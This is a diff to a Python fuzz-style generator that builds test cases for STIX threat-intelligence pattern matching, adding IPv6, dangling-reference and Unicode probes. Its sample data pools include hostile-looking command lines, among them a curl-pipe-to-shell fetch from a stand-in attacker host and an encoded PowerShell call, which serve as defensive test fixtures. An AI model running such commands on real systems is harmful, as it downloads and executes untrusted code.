@@ -28,6 +28,7 @@ import json
 import random
 import re
 import sys
+import unicodedata
 import uuid
 from dataclasses import dataclass, field
 from typing import Any, Callable
@@ -67,6 +68,9 @@ BASE_TIME = datetime.datetime(2024, 3, 1, 12, 0, 0, tzinfo=datetime.timezone.utc
 IPV4_POOL = ["10.0.0.1", "10.0.0.7", "192.168.1.20", "198.51.100.4", "203.0.113.77", "8.8.8.8"]
 IPV4_CIDR_POOL = ["10.0.0.0/24", "192.168.0.0/16", "198.51.100.0/25", "203.0.113.64/26"]
 IPV6_POOL = ["2001:db8::1", "2001:db8:dead:beef::10", "fe80::1"]
+IPV6_CIDR_POOL = ["2001:db8::/32", "2001:db8:dead::/48", "fe80::/10", "2001:db9::/32", "fe80::1/128"]
+# A reference that resolves to nothing (abstract key; rendered as an id/key that is absent).
+DANGLING = "dangling"
 DOMAIN_POOL = ["example.com", "evil.example", "a.b.example.org", "cdn-7.example.net", "xn--caf-dma.example"]
 URL_POOL = [
     "http://evil.example/x.php?id=1",
@@ -77,12 +81,14 @@ URL_POOL = [
 EMAIL_POOL = ["alice@example.com", "bob@evil.example", "o'brien@example.org", "carol_x@a.b.example.org"]
 DISPLAY_NAMES = ["Alice Example", "Bob O'Reilly", "Zoë Café", "Mallory \\ Admin", "Eve"]
 FILE_NAMES = ["invoice.pdf.exe", "report_2024.docx", "a%b_c.txt", "setup.msi", "Ünïcode.dat", "evil.dll"]
-SUBJECTS = ["Invoice 2024-03", "RE: urgent", "it's done", "Your account\nhas been locked", "Café meeting"]
+SUBJECTS = ["Invoice 2024-03", "RE: urgent", "it's done", "Your account\nhas been locked", "Café meeting",
+            "line one\r\nline two", "ends with newline\n"]
 COMMAND_LINES = [
     "C:\\Windows\\System32\\cmd.exe /c whoami",
     "powershell -enc SQBFAFgA",
     "/bin/sh -c 'curl http://evil.example | sh'",
     "rundll32.exe evil.dll,Start",
+    "bash -c 'echo one\necho two'",
 ]
 DIR_PATHS = ["C:\\Users\\alice\\AppData\\Local\\Temp", "/tmp", "/var/lib/x-app", "C:\\Program Files (x86)"]
 USER_IDS = ["root", "alice", "1001", "svc_backup", "O'Neil"]
@@ -93,7 +99,8 @@ REGISTRY_KEYS = [
 MIME_TYPES = ["application/pdf", "application/x-dosexec", "text/plain", "application/zip"]
 HTTP_METHODS = ["GET", "POST", "PUT"]
 USER_AGENTS = ["Mozilla/5.0 (Windows NT 10.0)", "curl/8.4.0", "python-requests/2.31"]
-WORDS = ["alpha", "beta", "gamma", "delta", "Delta", "x_y", "50%", "tab\there", "naïve", "cafe\u0301"]
+WORDS = ["alpha", "beta", "gamma", "delta", "Delta", "x_y", "50%", "tab\there", "naïve", "cafe\u0301",
+         "two\nlines", "trailing\n", "Ångström"]
 MAC_POOL = ["00:11:22:33:44:55", "de:ad:be:ef:00:01"]
 PAYLOADS = [b"hello", b"MZ\x00\x03", b"GET / HTTP/1.1", b"\x00\x01\x02\x7f", b"caf\xc3\xa9", b"abc123"]
 
@@ -172,6 +179,13 @@ def _maybe(rng: random.Random, p: float) -> bool:
     return rng.random() < p
 
 
+def _with_dangling(rng: random.Random, refs: list[str]) -> list[str]:
+    """Sometimes insert a reference that resolves to nothing into a *_refs list."""
+    if _maybe(rng, 0.08):
+        refs.insert(rng.randint(0, len(refs)), DANGLING)
+    return refs
+
+
 def build_ipv4(rng: random.Random, world: World, members: list[str]) -> dict[str, Any]:
     """ipv4-addr: an address, sometimes a CIDR block."""
     return {"type": "ipv4-addr", "value": rng.choice(IPV4_CIDR_POOL if _maybe(rng, 0.3) else IPV4_POOL)}
@@ -186,8 +200,8 @@ def build_domain(rng: random.Random, world: World, members: list[str]) -> dict[s
     """domain-name, sometimes with resolves_to_refs to addresses."""
     sco: dict[str, Any] = {"type": "domain-name", "value": rng.choice(DOMAIN_POOL)}
     if _maybe(rng, 0.5):
-        sco["resolves_to_refs"] = [world.add(build_ipv4(rng, world, members), members)
-                                   for _ in range(rng.randint(1, 2))]
+        sco["resolves_to_refs"] = _with_dangling(rng, [world.add(build_ipv4(rng, world, members), members)
+                                                       for _ in range(rng.randint(1, 2))])
     return sco
 
 
@@ -219,8 +233,8 @@ def build_email_message(rng: random.Random, world: World, members: list[str]) ->
     if _maybe(rng, 0.8):
         sco["from_ref"] = world.add(build_email_addr(rng, world, members), members)
     if _maybe(rng, 0.8):
-        sco["to_refs"] = [world.add(build_email_addr(rng, world, members), members)
-                          for _ in range(rng.randint(1, 3))]
+        sco["to_refs"] = _with_dangling(rng, [world.add(build_email_addr(rng, world, members), members)
+                                              for _ in range(rng.randint(1, 3))])
     if _maybe(rng, 0.4):
         sco["additional_header_fields"] = {
             "Reply-To": [rng.choice(EMAIL_POOL)],
@@ -454,6 +468,8 @@ def _kind_of(key: str, value: Any) -> str:
             return "timestamp"
         if key == "value" and IPV4_RE.match(value):
             return "ipv4"
+        if key == "value" and "::" in value:
+            return "ipv6"
         return "string"
     return "container"
 
@@ -469,11 +485,12 @@ def _walk(world: World, value: Any, key: str, steps: list[tuple[str, Any]], feat
         return
     if key.endswith("_refs") and isinstance(value, list) and depth < 2:
         out.append(Leaf(root_type, steps, value, "container", features + ["path:refs"]))
+        extra = ["path:dangling-ref"] if DANGLING in value else []
         for i, ref in enumerate(value):
             step = ("star", None) if _maybe(rng, 0.5) else ("index", i)
             target = world.objects.get(ref)
             if target is not None:
-                _walk_object(world, target, steps + [step], features + ["path:refs", f"path:{step[0]}"],
+                _walk_object(world, target, steps + [step], features + ["path:refs", f"path:{step[0]}"] + extra,
                              depth + 1, root_type, out, rng)
         return
     if isinstance(value, dict):
@@ -626,8 +643,9 @@ def _like_from(rng: random.Random, s: str) -> str:
 
 
 def _regex_escape(s: str) -> str:
-    """Escape regex metacharacters with a backslash (portable across Python, PCRE, Rust)."""
-    return "".join("\\" + c if c in REGEX_META else c for c in s)
+    """Escape regex metacharacters with a backslash and control characters as \\xHH
+    (portable across Python, PCRE and Rust; keeps NULs out of the pattern text)."""
+    return "".join("\\" + c if c in REGEX_META else (f"\\x{ord(c):02x}" if ord(c) < 0x20 else c) for c in s)
 
 
 def _regex_from(rng: random.Random, s: str) -> str:
@@ -649,6 +667,8 @@ def _regex_from(rng: random.Random, s: str) -> str:
             out.append(rng.choice(["[a-zA-Z]", "[A-Za-z]+", "."]))
         elif r < 0.05:
             out.append(".*")
+        elif r < 0.09 or (c in "\r\n" and r < 0.6):
+            out.append(rng.choice(["\\s", "."]) if c.isspace() else ".")  # '.' on a line break: DOTALL probe
         else:
             out.append(_regex_escape(c))
         k += 1
@@ -732,14 +752,21 @@ def _operand_for(rng: random.Random, leaf: Leaf, op: str) -> tuple[str, list[str
             kinds = set(items[0][1])
         return "(" + ", ".join(texts) + ")", sorted(kinds)
     if op == "LIKE":
-        s = _as_text(v)
+        feats = ["lit:string"]
+        s = _renormalise(rng, _as_text(v, leaf.kind), feats)
         pattern = _like_from(rng, s) if match_bias else _like_from(rng, _mutate_string(rng, s))
-        return str_lit(pattern), ["lit:string"] + _escape_features(pattern)
+        pattern = pattern.replace("\x00", "_")  # a NUL cannot travel in a command-line argument
+        return str_lit(pattern), feats + _escape_features(pattern)
     if op == "MATCHES":
-        s = _as_text(v)
+        feats = ["lit:string", "lit:regex"]
+        s = _renormalise(rng, _as_text(v, leaf.kind), feats)
         regex = _regex_from(rng, s) if match_bias else _regex_from(rng, _mutate_string(rng, s))
-        return str_lit(regex), ["lit:string", "lit:regex"] + _escape_features(regex)
+        return str_lit(regex), feats + _escape_features(regex)
+    if op == "ISSUBSET" and leaf.kind == "ipv6":
+        return str_lit(rng.choice(IPV6_CIDR_POOL)), ["lit:string", "lit:ipv6-cidr"]
     if op == "ISSUBSET":
+        if match_bias and "/" not in v and _maybe(rng, 0.1):
+            return str_lit(v), ["lit:string", "lit:bare-address"]
         arg = _cidr_around(rng, v, match_bias)
         return str_lit(arg), ["lit:string"]
     if op == "ISSUPERSET":
@@ -748,11 +775,25 @@ def _operand_for(rng: random.Random, leaf: Leaf, op: str) -> tuple[str, list[str
     raise ValueError(op)
 
 
-def _as_text(v: Any) -> str:
-    """The text a LIKE/MATCHES pattern is derived from (binary values are decoded)."""
+def _as_text(v: Any, kind: str) -> str:
+    """The text a LIKE/MATCHES pattern is derived from: binary values as octets U+0000-U+00FF."""
+    if kind == "bin":
+        return base64.b64decode(v).decode("latin-1")
+    if kind == "hex":
+        return bytes.fromhex(v).decode("latin-1")
     if isinstance(v, str):
         return v
     return json.dumps(v)
+
+
+def _renormalise(rng: random.Random, s: str, feats: list[str]) -> str:
+    """Sometimes flip a non-ASCII literal to NFC or NFD (Unicode-normalisation probes)."""
+    if s.isascii() or not _maybe(rng, 0.3):
+        return s
+    flipped = unicodedata.normalize(rng.choice(["NFC", "NFD"]), s)
+    if flipped != s:
+        feats.append("lit:unicode-normalization")
+    return flipped
 
 
 def _escape_features(s: str) -> list[str]:
@@ -809,8 +850,9 @@ def _equal_literal(rng: random.Random, leaf: Leaf, match: bool, is_hash: bool) -
             text = v.upper() if _maybe(rng, 0.15) else v
             return str_lit(text), ["lit:string"] + (["lit:hash-case"] if text != v else [])
         return str_lit(_hash_value(rng, algo)), ["lit:string"]
-    s = v if match else _mutate_string(rng, v)
-    return str_lit(s), ["lit:string"] + _escape_features(s)
+    feats = ["lit:string"]
+    s = _renormalise(rng, v, feats) if match else _mutate_string(rng, v)
+    return str_lit(s), feats + _escape_features(s)
 
 
 def _mismatched_literal(rng: random.Random, kind: str, ordering: bool) -> tuple[str, list[str]]:
@@ -823,7 +865,7 @@ def _mismatched_literal(rng: random.Random, kind: str, ordering: bool) -> tuple[
     options = [("'1024'", "lit:string"), ("1024", "lit:int"), ("12.0", "lit:float"), ("h'68656c6c6f'", "lit:hex")]
     if not ordering:
         options.append(("true", "lit:bool"))
-    if kind not in ("string", "ipv4", "timestamp", "bin", "hex"):
+    if kind not in ("string", "ipv4", "ipv6", "timestamp", "bin", "hex"):
         options.append(("t'2024-03-01T12:00:00Z'", "lit:timestamp"))
     text, feat = rng.choice(options)
     return text, [feat, "lit:type-mismatch"]
@@ -873,10 +915,12 @@ def _ops_for(leaf: Leaf) -> list[tuple[str, int]]:
     ops.append(("IN", 3))
     if kind in ("int", "float", "timestamp", "string", "ipv4", "bin", "hex"):
         ops += [("<", 1), ("<=", 1), (">", 1), (">=", 1)]
-    if kind in ("string", "ipv4", "timestamp"):
+    if kind in ("string", "ipv4", "ipv6", "timestamp"):
         ops += [("LIKE", 3), ("MATCHES", 3)]
+    if kind == "ipv6":
+        ops += [("ISSUBSET", 2)]
     if kind == "bin":
-        ops += [("MATCHES", 2), ("LIKE", 1)]
+        ops += [("MATCHES", 2), ("LIKE", 2)]
     if kind in ("int", "bool") :
         ops += [("LIKE", 1)]  # LIKE on a non-string: never true, NOT LIKE always true
     if kind == "ipv4":
@@ -989,6 +1033,8 @@ class CaseBuilder:
         rng = self.rng
         if depth == 0 and not self.stix20 and _maybe(rng, 0.08):
             _, all_leaves = self._leaf_pool(containers=True)
+            while not all_leaves:
+                _, all_leaves = self._leaf_pool(containers=True)
             c = make_exists(rng, rng.choice(all_leaves))
             return Expr(c.text, c.features)
         obj, leaves = self._leaf_pool()
@@ -1030,9 +1076,12 @@ class CaseBuilder:
         """A WITHIN qualifier whose span sits on/near gaps between observations."""
         rng = self.rng
         times = self._times()
+        # The span a WITHIN must cover for two observations: later first_observed minus
+        # earlier last_observed; hitting it exactly probes the boundary.
+        spans = [f2 - l1 for f1, l1 in times for f2, l2 in times if f2 - l1 > 0 and (f1, l1) != (f2, l2)]
         points = sorted({t for iv in times for t in iv})
         gaps = [b - a for a in points for b in points if b > a] or [1_000_000]
-        gap = rng.choice(gaps)
+        gap = rng.choice(spans) if spans and _maybe(rng, 0.6) else rng.choice(gaps)
         secs = gap / 1_000_000 + rng.choice([0, 0, 0, -0.5, 1, -1, 0.001])
         if secs <= 0:
             secs = rng.choice([1, 0.5, 2])
@@ -1051,23 +1100,33 @@ class CaseBuilder:
             start, stop = min(start, stop), max(start, stop) + rng.choice([1_000_000, 1000])
         return f"START {ts_lit(start, rng)} STOP {ts_lit(stop, rng)}", ["qual:START-STOP", "lit:timestamp"]
 
-    def _qualify(self, e: Expr) -> Expr:
-        """Attach zero or one qualifier (rarely two, on a parenthesised group)."""
+    def _qualifier(self, exclude: set[str]) -> tuple[str, str, list[str]]:
+        """A random qualifier whose kind is not in `exclude`: (kind, text, features)."""
         rng = self.rng
-        r = rng.random()
-        if r < 0.55:
+        kinds = [k for k in ("WITHIN", "START-STOP", "REPEATS")
+                 if k not in exclude and not (k == "START-STOP" and self.stix20)]
+        kind = rng.choices(kinds, weights=[{"WITHIN": 4, "START-STOP": 3, "REPEATS": 3}[k] for k in kinds])[0]
+        if kind == "WITHIN":
+            return (kind, *self._within())
+        if kind == "START-STOP":
+            return (kind, *self._start_stop())
+        n = rng.choices([1, 2, 3], weights=[1, 5, 2])[0]
+        return kind, f"REPEATS {n} TIMES", ["qual:REPEATS"]
+
+    def _qualify(self, e: Expr, p_none: float = 0.55) -> Expr:
+        """Attach no qualifier, one, or a chain of different ones (e.g. REPEATS then WITHIN);
+        rarely a second of the same kind on a parenthesised group."""
+        rng = self.rng
+        if _maybe(rng, p_none):
             return e
-        if r < 0.72:
-            q, f = self._within()
-        elif r < 0.86 and not self.stix20:
-            q, f = self._start_stop()
-        else:
-            n = rng.choices([1, 2, 3], weights=[1, 5, 2])[0]
-            q, f = f"REPEATS {n} TIMES", ["qual:REPEATS"]
+        kind, q, f = self._qualifier(set())
         out = Expr(f"{e.text} {q}", e.features + f, atom=True)
+        if _maybe(rng, 0.3):
+            _, q2, f2 = self._qualifier({kind})
+            out = Expr(f"{out.text} {q2}", out.features + f2 + ["qual:chained"], atom=True)
         if _maybe(rng, 0.06):
-            q2, f2 = self._within()
-            out = Expr(f"({out.text}) {q2}", out.features + f2 + ["qual:nested"], atom=True)
+            q3, f3 = self._within()
+            out = Expr(f"({out.text}) {q3}", out.features + f3 + ["qual:nested"], atom=True)
         return out
 
     def observation_expression(self, budget: int) -> Expr:
@@ -1092,9 +1151,8 @@ class CaseBuilder:
                 texts.append(f"({side.text})")
                 feats.append("obs:paren")
         combined = Expr(f"{texts[0]} {op} {texts[1]}", feats, atom=False)
-        if _maybe(rng, 0.3):
-            qualified = self._qualify(Expr(f"({combined.text})", combined.features + ["obs:paren"]))
-            return qualified
+        if _maybe(rng, 0.45):
+            return self._qualify(Expr(f"({combined.text})", combined.features + ["obs:paren"]), p_none=0.2)
         return combined
 
     # --- rendering ---------------------------------------------------------------------
@@ -1111,6 +1169,7 @@ class CaseBuilder:
         """STIX 2.1: bundles of observed-data plus SCOs, refs as ids."""
         rng = self.rng
         ids = {k: f"{o['type']}--{self._uuid()}" for k, o in self.world.objects.items()}
+        ids[DANGLING] = f"email-addr--{self._uuid()}"
         bundles: list[list[dict[str, Any]]] = []
         split = _maybe(rng, 0.25)
         for obs in self.world.observations:
@@ -1139,6 +1198,7 @@ class CaseBuilder:
         out: list[dict[str, Any]] = []
         for obs in self.world.observations:
             local = {k: str(i) for i, k in enumerate(obs.sco_keys)}
+            local[DANGLING] = "99"
             out.append({
                 "type": "observed-data", "id": f"observed-data--{self._uuid()}",
                 "created": _ts_text(obs.first_us, 3), "modified": _ts_text(obs.first_us, 3),
@@ -1157,7 +1217,7 @@ def _replace_refs(obj: Any, mapping: dict[str, str], key: str = "") -> Any:
     if key.endswith("_ref") and isinstance(obj, str):
         return mapping[obj]
     if key.endswith("_refs") and isinstance(obj, list):
-        return [mapping[r] for r in obj]
+        return [mapping[r] for r in obj]  # mapping includes DANGLING -> an absent id or key
     if isinstance(obj, list):
         return [_replace_refs(v, mapping, key) for v in obj]
     return obj
